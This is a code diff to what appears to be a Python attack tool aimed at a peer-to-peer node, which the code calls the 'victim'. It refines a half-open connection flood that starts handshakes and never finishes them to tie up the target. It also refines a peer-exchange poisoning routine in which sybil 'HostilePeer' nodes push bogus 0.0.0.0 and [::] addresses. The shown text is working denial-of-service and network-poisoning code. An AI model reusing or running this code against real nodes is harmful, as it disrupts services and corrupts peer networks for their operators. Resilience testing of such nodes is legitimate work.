@@ -53,7 +53,8 @@ async def _half_open(host: str, port: int, announce: int, partial: int, hold_s: 
                      t0: float) -> tuple[int, float, float]:
     """One connection that upgrades and never finishes the handshake: it announces a frame of
     ``announce`` bytes and sends ``partial`` of them (or nothing if ``announce`` is 0).
-    Returns (HTTP status, seconds since t0 it was upgraded, seconds since t0 it was closed)."""
+    Returns (HTTP status, seconds since t0 it was upgraded, seconds since t0 it was cut off:
+    when the victim's close frame, or the end of the stream, arrived)."""
     try:
         reader, writer, status = await upgrade(host, port)
     except (OSError, asyncio.IncompleteReadError):
@@ -65,13 +66,13 @@ async def _half_open(host: str, port: int, announce: int, partial: int, hold_s: 
             writer.write(b"\x00" * partial)
         with contextlib.suppress(OSError, TimeoutError):
             async with asyncio.timeout(hold_s):
-                while await reader.read(65536):
-                    pass  # whatever the victim says before it closes
+                await reader.read(65536)  # the victim speaks only to close (or just hangs up)
+        cut_off = time.perf_counter() - t0
     finally:
         writer.close()
         with contextlib.suppress(OSError):
             await writer.wait_closed()
-    return status, opened, time.perf_counter() - t0
+    return status, opened, cut_off
 
 
 async def half_open_flood(host: str, port: int, waves: int, per_wave: int, announce: int,
@@ -117,11 +118,16 @@ async def poison_peer_exchange(url: str, chain_id: str, trap_port: int, sybils: 
     bad = [f"http://0.0.0.0:{trap_port}", f"http://[::]:{trap_port}"]
     filler = [f"http://0.0.0.0:{p}" for p in range(20000, 20000 + 64 * frames)]
     peers = [HostilePeer(chain_id) for _ in range(sybils)]
-    report = {"ids": [p.node_id for p in peers], "sent": 0, "closed": 0}
+    report = {"ids": [p.node_id for p in peers], "sent": 0, "closed": 0, "refused": 0}
     try:
         for peer in peers:
             await peer.__aenter__()
-            await peer.connect(url)
+            try:
+                await peer.connect(url)
+            except Exception:  # the victim may refuse us outright once our address misbehaved
+                report["refused"] += 1
+                await peer.close()
+                continue
             for f in range(frames):
                 with contextlib.suppress(ConnectionError, aiohttp.ClientError, RuntimeError):
                     await peer.send_peers(bad + filler[f * 62:(f + 1) * 62])
